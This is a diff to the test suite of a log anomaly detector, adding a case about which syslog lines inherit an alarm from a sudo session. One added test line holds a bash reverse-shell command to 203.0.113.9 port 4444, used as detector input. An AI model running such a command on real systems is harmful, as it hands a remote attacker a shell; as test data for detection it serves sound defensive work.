@@ -313,7 +313,7 @@ describe("training and scoring", () => {
     expect(scored("sshd[7777]", "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2", true).tarkin_anomaly).toBe(false);
   });
 
-  it("an alarm of a session's process carries to the next 4 lines of its second and host; a program's of no process id to its own lines of the second, by what it holds; a daemon's to none", () => {
+  it("an alarm of a session's process carries to the next 4 lines of its second and host; a program's of no process id to its own lines of the second that name its subject; a daemon's to none", () => {
     const at = (time: string, host: string, process: string, text: string) => `Mar 12 ${time} ${host} ${process}: ${text}`;
     const users = ["alice", "bob", "carol"];
     const trainer = packedTarkin();
@@ -350,6 +350,9 @@ describe("training and scoring", () => {
     expect(scored(at("11:00:05.500", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(true);
     expect(scored(logind("11:00:05.500")).tarkin_anomaly).toBe(false);
     expect(scored(at("11:00:05.600", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(false); // after another line
+    // Only lines that name its subject: bob's routine command of that second is none of alice's alarm.
+    scored(at("11:00:05.650", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+    expect(scored(at("11:00:05.650", "bastion", "sudo", "   bob : TTY=pts/2 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt-get update")).tarkin_anomaly).toBe(false);
     // The kernel logs no process id either, and a boot writes a burst of lines a second: a line very
     // unusual by how it is written opens no second.
     const boot = scored(at("11:00:05.800", "bastion", "kernel", "ACPI: RSDP (v000 COMPAQ ) @ 0x000f6c60 {quirks=0x2f;mode=legacy}"));
